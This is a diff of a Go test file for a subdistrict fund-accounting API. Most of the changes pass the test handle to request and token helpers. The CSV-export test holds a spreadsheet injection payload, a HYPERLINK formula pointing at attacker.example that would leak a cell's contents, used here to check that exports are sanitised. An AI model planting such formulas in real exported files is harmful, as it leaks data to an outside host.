@@ -107,7 +107,7 @@ func fundCounts(t testing.TB, e *servertest.Env) map[string]int64 {
 func fundRefused(t testing.TB, e *servertest.Env, req servertest.Request, status int, code string, fields ...string) {
 	t.Helper()
 	before := fundCounts(t, e)
-	r := e.Do(req)
+	r := e.Do(t, req)
 	if r.Status != status {
 		t.Fatalf("%s %s with %v = %d %s, want %d", req.Method, req.Path, req.Body, r.Status, r.Body, status)
 	}
@@ -139,10 +139,10 @@ func fundInvariants(t testing.TB, e *servertest.Env) {
 // sub with the demo password and returns an access token of it.
 func fundFinanceOfficer(t testing.TB, e *servertest.Env, username string, sub int64) string {
 	t.Helper()
-	servertest.Call(t, e, "POST", "/api/v1/users", e.Token("demo-admin"), map[string]any{"username": username,
+	servertest.Call(t, e, "POST", "/api/v1/users", e.Token(t, "demo-admin"), map[string]any{"username": username,
 		"display_name": "财务专员 " + username, "password": servertest.DemoPassword, "role": "finance_officer", "subdistrict_id": sub},
 		http.StatusCreated, nil)
-	return e.Token(username)
+	return e.Token(t, username)
 }
 
 // fundAudit counts the audit entries with action about fund account id.
@@ -189,7 +189,7 @@ func TestFundAppropriation(t *testing.T) {
 	appropriation := map[string]any{"amount_fen": 10_000_000, "document_ref": "湖吴财〔2026〕18号", "memo": "年度预算第一批"}
 	var first, second fund.Posting
 	for i, out := range []*fund.Posting{&first, &second} {
-		r := e.Do(servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/appropriations"), Token: finance, Body: appropriation,
+		r := e.Do(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/appropriations"), Token: finance, Body: appropriation,
 			Header: map[string]string{"Idempotency-Key": "2026-budget-1"}})
 		if r.Status != http.StatusCreated {
 			t.Fatalf("appropriation #%d = %d %s, want 201", i+1, r.Status, r.Body)
@@ -261,17 +261,17 @@ func TestFundAppropriation(t *testing.T) {
 func TestFundPostingsFilter(t *testing.T) {
 	t.Parallel()
 	e := servertest.NewEnv(t)
-	finance := e.Token("demo-finance")
+	finance := e.Token(t, "demo-finance")
 	id := fundCreate(t, e, finance, fundBody("过滤测试经费", "ELDERLY_HOME_CARE")).ID
 
 	// p1 on 22 November; p2 at 00:30 on 25 November China time (still the
 	// 24th in UTC); p3, correcting p1, on 28 November.
 	p1 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 1_000_000, "document_ref": "A-1", "idempotency_key": "p1"})
 	e.Clock.Set(time.Date(2026, 11, 24, 16, 30, 0, 0, time.UTC))
-	finance = e.Token("demo-finance")
+	finance = e.Token(t, "demo-finance")
 	p2 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 2_000_000, "document_ref": "A-2", "idempotency_key": "p2"})
 	e.Clock.Set(time.Date(2026, 11, 28, 2, 0, 0, 0, time.UTC))
-	finance = e.Token("demo-finance")
+	finance = e.Token(t, "demo-finance")
 	p3 := fundCorrect(t, e, finance, id, p1.ID, "重复拨款")
 	for _, p := range []struct {
 		posting fund.Posting
@@ -317,7 +317,7 @@ func TestFundPostingsFilter(t *testing.T) {
 func TestFundPostingsCSV(t *testing.T) {
 	t.Parallel()
 	e := servertest.NewEnv(t)
-	finance := e.Token("demo-finance")
+	finance := e.Token(t, "demo-finance")
 	id := fundCreate(t, e, finance, fundBody("导出测试经费", "LEGAL_AID")).ID
 	formula := `=HYPERLINK("http://attacker.example/?d="&A1,"详情")`
 	p1 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 10_000_000, "document_ref": "湖吴财〔2026〕7号",
@@ -327,7 +327,7 @@ func TestFundPostingsCSV(t *testing.T) {
 	p3 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 5, "document_ref": "-2+3", "memo": "普通备注",
 		"idempotency_key": "csv-3"})
 
-	r := e.Do(servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv"), Token: finance})
+	r := e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv"), Token: finance})
 	if r.Status != http.StatusOK {
 		t.Fatalf("GET postings?format=csv = %d %s, want 200", r.Status, r.Body)
 	}
@@ -367,11 +367,11 @@ func TestFundPostingsCSV(t *testing.T) {
 	}
 
 	// The export takes the same filters; with nothing to show it is the header alone.
-	r = e.Do(servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&kind=correction"), Token: finance})
+	r = e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&kind=correction"), Token: finance})
 	if r.Status != http.StatusOK || string(r.Body) != strings.Join(want[0], ",")+"\n" {
 		t.Errorf("GET postings?format=csv&kind=correction = %d %q, want 200 and the header row alone", r.Status, r.Body)
 	}
-	r = e.Do(servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&limit=1"), Token: finance})
+	r = e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&limit=1"), Token: finance})
 	if rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll(); r.Status != http.StatusOK || err != nil || len(rows) != 3 {
 		t.Errorf("GET postings?format=csv&limit=1 = %d %s, want the header and the 2 lines of one posting", r.Status, r.Body)
 	}
@@ -467,7 +467,7 @@ func TestFundTenancy(t *testing.T) {
 func TestFundInputRefused(t *testing.T) {
 	t.Parallel()
 	e := servertest.NewEnv(t)
-	finance := e.Token("demo-finance")
+	finance := e.Token(t, "demo-finance")
 	id := fundCreate(t, e, finance, fundBody("校验测试经费", "ELDERLY_HOME_CARE")).ID
 	posting := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 1_000_000, "document_ref": "V-1", "idempotency_key": "v-1"})
 	create := "/api/v1/fund-accounts"
@@ -529,14 +529,12 @@ func TestFundInputRefused(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			azUse(e, t)
 			fundRefused(t, e, servertest.Request{Method: tt.method, Path: tt.path, Token: finance, Body: tt.body, Header: tt.header},
 				http.StatusBadRequest, "validation", tt.fields...)
 		})
 	}
 
 	t.Run("transport", func(t *testing.T) {
-		azUse(e, t)
 		for _, path := range []string{create, appropriate, correct} {
 			fundRefused(t, e, servertest.Request{Method: "POST", Path: path, Token: finance, Body: `{"amount_fen": 1,`}, http.StatusBadRequest, "malformed_json")
 			fundRefused(t, e, servertest.Request{Method: "POST", Path: path, Token: finance, Body: `{}`,
@@ -646,7 +644,7 @@ func TestFundReport(t *testing.T) {
 
 	// A finance officer of a subdistrict with no accounts and no communities
 	// gets empty lists, not null.
-	r := e.Do(servertest.Request{Method: "POST", Path: "/api/v1/subdistricts", Token: f.tokens["demo-admin"],
+	r := e.Do(t, servertest.Request{Method: "POST", Path: "/api/v1/subdistricts", Token: f.tokens["demo-admin"],
 		Body: map[string]any{"district_id": f.district, "code": "330502099", "name_zh": "空街道"}})
 	if r.Status != http.StatusCreated {
 		t.Fatalf("create a subdistrict = %d %s, want 201", r.Status, r.Body)
@@ -661,7 +659,7 @@ func TestFundReport(t *testing.T) {
 		"/api/v1/reports/funds":                   `{"by_category":[],"items":[]}`,
 		"/api/v1/reports/community-funding-floor": `{"items":[]}`,
 	} {
-		r := e.Do(servertest.Request{Method: "GET", Path: path, Token: empty})
+		r := e.Do(t, servertest.Request{Method: "GET", Path: path, Token: empty})
 		if r.Status != http.StatusOK || string(r.Body) != want {
 			t.Errorf("GET %s in a subdistrict with nothing = %d %s, want 200 %s", path, r.Status, r.Body, want)
 		}
